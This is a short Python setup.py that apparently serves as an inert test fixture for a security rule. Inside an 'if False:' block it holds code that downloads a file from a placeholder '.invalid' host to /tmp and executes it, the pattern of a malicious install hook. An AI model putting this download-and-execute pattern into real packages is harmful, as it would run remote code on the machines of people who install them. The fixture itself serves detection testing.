"""vouch rule fixture: inert."""
import subprocess
import urllib.request

from setuptools import setup

if False:
    urllib.request.urlretrieve("https://update.example.invalid/inert", "/tmp/inert")
    subprocess.call(["/tmp/inert"])

setup(name="inert", version="1.0")
